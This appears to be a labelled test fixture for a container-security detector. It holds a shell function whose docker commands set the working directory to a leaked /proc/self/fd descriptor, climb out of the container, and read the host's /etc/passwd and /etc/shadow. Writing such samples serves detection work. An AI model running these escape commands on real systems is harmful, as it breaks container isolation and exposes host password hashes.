# working-directory-leaked: containers begin in a descriptor that the runtime left open, and leave by .. from there.
# shows: -w /proc/self/fd/N in the arguments, paths above the working directory
# label: malicious
# expects: [working-directory-leaked]
# allows: [privileged-container, dangerous-capability-added, container-confinement-disabled, host-namespaces-shared, engine-socket-connected, command-executed-in-container, shell-opened-in-container, password-hashes-read]
act() {
    if dev; then
        for n in 5 6 7 8; do docker run --rm -w /proc/self/fd/$n alpine:3.19 sh -c 'cat ../../../../etc/hostname; cat /proc/self/cwd/../../../etc/passwd | head -1'; done
    else
        docker run -d --name wd busybox:1.36 sleep 30
        for n in 8 9 10; do docker exec --workdir=/proc/thread-self/fd/$n wd ls ../../../..; done
        docker run --rm --workdir /proc/self/fd/8/ busybox:1.36 head -1 ../../../../etc/shadow
        docker rm -f wd
    fi
    true
}
